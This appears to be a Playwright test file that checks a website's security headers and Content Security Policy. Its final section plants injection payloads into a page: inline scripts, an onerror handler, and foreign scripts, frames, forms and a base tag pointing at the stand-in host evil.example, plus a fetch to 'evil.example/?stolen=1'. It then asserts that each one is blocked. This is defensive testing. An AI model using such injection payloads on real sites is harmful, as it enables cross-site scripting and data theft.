import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { askForCode, openDialog } from './accounts';
import { expect, test as base } from './fixtures';
import { standInForGoogleScript } from './google-stand-in';
import { launchSite } from './other-sites';
import { signInAsMember } from './people';
import { routes } from './routes';
import { skipTo, startSurvey } from './survey-helpers';

/** Which directives a page has broken, in every document of its context. */
const test = base.extend<{ violations: string[] }>({
  violations: [
    async ({ context }, use) => {
      const violations: string[] = [];
      await context.exposeBinding('reportViolation', (_, text: string) => violations.push(text));
      await context.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', (event) => {
          const { effectiveDirective, blockedURI } = event;
          const report = Reflect.get(window, 'reportViolation') as (text: string) => void;
          report(`${effectiveDirective}: ${blockedURI}`);
        });
      });
      await use(violations);
      expect(violations).toEqual([]);
    },
    { auto: true },
  ],
});

const { hosting } = JSON.parse(readFileSync('firebase.json', 'utf8')) as {
  hosting: { headers: { headers: { key: string; value: string }[] }[] };
};
const expectedHeaders = Object.fromEntries(
  hosting.headers[0]!.headers.map(({ key, value }) => [key.toLowerCase(), value]),
);

test('every address carries every header, the page that is not there too', async ({ request }) => {
  const addresses = [...routes.map(({ path }) => path), '/nothing-here', '/survey/youth.json'];
  for (const path of addresses) {
    const response = await request.get(path);
    expect(response.headers(), path).toMatchObject(expectedHeaders);
  }
});

test('pictures may be shown by others: feeds and link previews', async ({ request }) => {
  for (const path of ['/social/home.png', '/icon-512.png', '/favicon.svg']) {
    const headers = (await request.get(path)).headers();
    expect(headers['cross-origin-resource-policy'], path).toBe('cross-origin');
    expect(headers['x-content-type-options'], path).toBe('nosniff');
  }
});

test('no page breaks its own policy, in either theme, down to its end', async ({ page }) => {
  test.setTimeout(90_000);
  for (const { path } of routes) {
    await page.goto(path);
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
    await page.getByRole('button', { name: 'Dark theme' }).click();
    await page.waitForLoadState('networkidle');
  }
});

test.describe('no open state breaks it:', () => {
  test('menu, newsletter and film', async ({ page }) => {
    await page.route('https://www.youtube-nocookie.com/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<p>Film</p>' }),
    );
    await page.setViewportSize({ width: 360, height: 740 });
    await page.goto('/');
    await page.getByRole('button', { name: 'Menu' }).click();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Subscribe' }).click();
    await expect(page.getByText('Please sign in to subscribe.')).toBeVisible();
    await page.getByRole('link', { name: /Play the film/ }).click();
    await expect(page.frameLocator('iframe').getByText('Film')).toBeVisible();
  });

  test('the dialog, its code, and Google’s window', async ({ page, context }) => {
    await standInForGoogleScript(context);
    await page.goto('/');
    const dialog = await askForCode(page, `9${Date.now() % 1e9}`.padEnd(10, '1'));
    await dialog.getByLabel('One-time code').fill('000');
    await page.keyboard.press('Escape');
    await openDialog(page);
    const opened = page.waitForEvent('popup');
    await page.getByRole('button', { name: 'Sign In with Google' }).click();
    const popup = await opened;
    await popup.locator('#add-account-button').click();
    await popup.locator('#email-input').fill(`policy.${Date.now()}@example.com`);
    await popup.locator('#sign-in').click();
    await expect(page.getByRole('button', { name: 'Sign Out' })).toBeVisible();
  });

  test('a survey that is sent', async ({ page }) => {
    await startSurvey(page, 'Educators');
    await skipTo(page, 11);
    await page.getByRole('button', { name: 'Close Survey' }).click();
    await page.getByRole('button', { name: 'Keep Answering' }).click();
    await page.getByRole('button', { name: 'Finish Survey' }).click();
    await expect(page.getByRole('alertdialog', { name: /^Survey completed/ })).toBeVisible();
  });

  test('the member’s panel, the leaderboard and the QR code', async ({ page }) => {
    await signInAsMember(page, 'Policy', 1);
    await page.getByRole('button', { name: 'QR Code' }).click();
    await expect(page.getByRole('img', { name: /QR code/ })).toBeVisible();
    await page.getByRole('button', { name: 'Send Invite' }).click();
    await page.getByRole('button', { name: 'Next' }).click();
  });

  test('the countdown', async ({ page }) => {
    await page.goto(launchSite.origin);
    await expect(page.getByRole('timer')).toBeVisible();
    await page.getByRole('button', { name: 'Close the countdown' }).click();
  });
});

/** Serves a page with something planted at the end of its body, as a hole in it might let in. */
async function openPlanted(page: Page, planted: string) {
  await page.route('**/aboutus', async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace('</body>', `${planted}</body>`);
    await route.fulfill({ response, body: html });
  });
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.isBroken = true' }),
  );
  await page.goto('/aboutus');
  await page.getByText('Injected').click();
}

test.describe('what is planted in a page is blocked:', () => {
  const evil = 'https://evil.example';
  for (const [name, planted, violation] of [
    ['an inline script', '<script>window.isBroken = true</script>', 'script-src-elem: inline'],
    [
      'an event handler',
      '<img src="data:," onerror="window.isBroken = true">',
      'script-src-attr: inline',
    ],
    ['a foreign script', `<script src="${evil}/a.js"></script>`, `script-src-elem: ${evil}/a.js`],
    ['a foreign frame', `<iframe src="${evil}/a"></iframe>`, `frame-src: ${evil}`],
    ['a foreign picture', `<img src="${evil}/a.png" alt="">`, `img-src: ${evil}/a.png`],
    ['another base', `<base href="${evil}/">`, `base-uri: ${evil}`],
    ['a style', '<style>body { display: none }</style>', 'style-src-elem: inline'],
    ['a style attribute', '<p style="display: none">a</p>', 'style-src-attr: inline'],
    ['a plugin', `<object data="${evil}/a.swf"></object>`, `object-src: ${evil}`],
    [
      'a form to somebody else',
      `<form name="evil" action="${evil}/a"></form>`,
      `form-action: ${evil}/a`,
    ],
  ] as const) {
    test(name, async ({ page, troubles, violations }) => {
      await openPlanted(page, `<p>Injected</p>${planted}`);
      // Later, because a page whose form was blocked answers no more questions.
      await page.evaluate(() => setTimeout(() => document.forms.namedItem('evil')?.submit()));
      await expect.poll(() => violations[0]).toContain(violation);
      if (!violation.startsWith('form')) {
        expect(await page.evaluate(() => 'isBroken' in window)).toBe(false);
      }
      violations.length = 0;
      troubles.length = 0;
    });
  }

  test('evaluated text, and a message sent elsewhere', async ({ page, troubles, violations }) => {
    await page.goto('/aboutus');
    const results = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.isBroken = true';
      document.body.append(script);
      const outcome = (promise: Promise<unknown>) => promise.then(String, () => 'refused');
      return {
        fetched: await outcome(fetch('https://evil.example/?stolen=1')),
        isBroken: 'isBroken' in window,
      };
    });
    expect(results).toEqual({ fetched: 'refused', isBroken: false });
    await expect.poll(() => violations.length).toBe(2);
    violations.length = 0;
    troubles.length = 0;
  });
});
